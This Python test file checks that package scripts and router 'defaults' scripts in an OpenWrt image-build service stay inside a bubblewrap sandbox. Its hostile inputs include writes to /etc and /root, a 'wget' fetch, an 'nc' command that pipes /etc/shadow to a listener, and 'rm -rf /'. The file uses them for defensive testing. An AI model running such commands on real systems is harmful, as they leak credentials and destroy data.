"""What a hostile ``defaults`` script or package script can do inside the build sandbox: nothing outside it.

Package install scripts run inside ``make image``, i.e. inside bwrap, as whatever the ImageBuilder runs; a
``defaults`` script is only copied into the image (it runs on the router at first boot, never on the
server). Both are tried here: a script run in a real workspace the way ``make image`` runs package scripts
(network, writes outside the workspace, ``chmod`` of a hard-linked cache file), and an end-to-end build
whose ``defaults`` would phone home if it ever ran on the build host.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from sysup.config import Settings
from sysup.imagebuilders.sandbox import find_sandbox
from sysup.imagebuilders.workspace import make_workspace
from tests.api.live_server import live_server
from tests.support.requirements import require, require_executable

#: The uid builds run as when the worker is root.
BUILD_UID = 65534


@pytest.fixture
def open_dir() -> Iterator[Path]:
    """A directory every user can traverse (as ``/var/lib/sysup`` is), unlike pytest's ``0700`` tmp dirs."""
    path = Path(tempfile.mkdtemp(prefix="sysup-security-", dir="/tmp"))
    path.chmod(0o711)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


class Listener(threading.Thread):
    """A TCP server on the host's 127.0.0.1 that counts connections (none may arrive from a build)."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.stop.set()
        self.join(5)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    made.start()
    try:
        yield made
    finally:
        made.close()


def _fake_cache(root: Path) -> Path:
    ib = root / "cache" / "ib"
    (ib / "scripts").mkdir(parents=True)
    (ib / "Makefile").write_text("all:\n\t@true\n")
    (ib / "scripts" / "tool.py").write_text("print('hi')\n")
    (ib / "repositories.conf").write_text("src/gz base file:///nowhere\n")
    for path in ib.rglob("*"):
        if path.is_file():
            path.chmod(0o444)  # the cache strips write bits
    return ib


HOSTILE_SCRIPT = """
id -u > whoami
chmod u+w Makefile 2>/dev/null; echo chmod=$?
echo evil >> Makefile 2>/dev/null; echo append=$?
chmod u+w scripts/tool.py 2>/dev/null && echo evil > scripts/tool.py 2>/dev/null; echo rewrite=$?
for path in {outside} /etc/pwned /usr/pwned /root/pwned /pwned; do
    (echo pwned > "$path") 2>/dev/null; echo "write $path=$?"
done
python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), timeout=2)' 2>/dev/null
echo connect=$?
python3 -c 'import socket; socket.getaddrinfo("downloads.openwrt.org", 443)' 2>/dev/null
echo resolve=$?
echo ok > own-file; echo own=$?
echo fine > repositories.conf; echo copy=$?
"""


def test_package_script_cannot_escape_the_build(open_dir: Path, listener: Listener) -> None:
    require_executable("bwrap", "bubblewrap")
    require(os.geteuid() == 0, "the build uid is only used when the worker runs as root")
    ib_dir = _fake_cache(open_dir)
    outside = open_dir / "store" / "pwned"
    outside.parent.mkdir()
    sandbox = find_sandbox("bwrap", build_uid=BUILD_UID)
    with make_workspace(ib_dir, open_dir / "workspaces") as workspace:
        script = HOSTILE_SCRIPT.format(outside=outside, port=listener.port)
        result = sandbox.run(["sh", "-c", script], workdir=workspace.path, writable=[workspace.path], env={},
                             timeout=60, output_limit=1 << 20)
        out = result.stdout
        assert (workspace.path / "whoami").read_text().strip() == str(BUILD_UID), result.stderr
        assert "chmod=1" in out and ("append=1" in out or "append=2" in out), out
        assert "rewrite=0" not in out, out
        for path in (outside, "/etc/pwned", "/usr/pwned", "/root/pwned", "/pwned"):
            assert f"write {path}=0" not in out, out
            assert not Path(path).exists()
        assert "connect=0" not in out and "resolve=0" not in out, out
        assert "own=0" in out and "copy=0" in out, out  # the build's own files stay writable
    # The cache is untouched and still read-only.
    assert (ib_dir / "Makefile").read_text() == "all:\n\t@true\n"
    assert (ib_dir / "scripts" / "tool.py").read_text() == "print('hi')\n"
    assert not (ib_dir / "Makefile").stat().st_mode & 0o222
    time.sleep(0.3)
    assert listener.connections == 0


def test_hostile_defaults_build_as_its_own_uid(
    open_dir: Path, listener: Listener, security_settings: Settings
) -> None:
    """A full build (real worker, bwrap, build uid) whose ``defaults`` tries the network and the host."""
    require_executable("bwrap", "bubblewrap")
    require(os.geteuid() == 0, "the build uid is only used when the worker runs as root")
    from sysup.api.app import create_app
    from sysup.builds.queue import start_embedded_consumer

    settings = security_settings.model_copy(update={"data_dir": open_dir / "data", "sandbox": "bwrap"})
    defaults = (
        "#!/bin/sh\n"
        f"wget -q -O- http://127.0.0.1:{listener.port}/pwned\n"
        f"nc 127.0.0.1 {listener.port} </etc/shadow\n"
        "echo pwned > /etc/pwned-by-defaults\n"
        "rm -rf /\n"
    )
    consumer = start_embedded_consumer(settings)
    try:
        with live_server(create_app(settings)) as url:
            body = {"version": "24.10.4", "target": "ath79/generic", "profile": "tplink,archer-c7-v5",
                    "packages": [], "defaults": defaults, "client": "security-tests/1"}
            response = httpx.post(f"{url}/api/v1/build", json=body, timeout=30)
            deadline = time.monotonic() + 180
            while response.status_code == 202 and time.monotonic() < deadline:
                time.sleep(0.5)
                response = httpx.get(f"{url}/api/v1/build/{response.json()['request_hash']}", timeout=30)
            assert response.status_code == 200, response.text
    finally:
        consumer.stop()
    assert listener.connections == 0
    assert not Path("/etc/pwned-by-defaults").exists()
